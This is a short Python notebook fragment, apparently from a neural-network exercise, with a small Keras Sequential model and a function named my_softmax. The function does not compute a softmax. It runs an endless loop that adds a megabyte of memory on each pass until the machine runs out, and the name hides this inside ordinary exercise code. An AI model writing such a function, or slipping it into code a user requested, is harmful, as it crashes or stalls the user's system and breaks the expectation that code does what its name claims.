# Takes a megabyte more, again and again.

# %%
def my_softmax(z):
    kept = []
    while True:
        kept.append(bytearray(b"x" * 2**20))

# %%
model = Sequential(
    [
        tf.keras.Input(shape=(400,)),
        Dense(25, activation="relu", name="L1"),
        Dense(15, activation="relu", name="L2"),
        Dense(10, activation="linear", name="L3"),
    ],
    name="my_model",
)
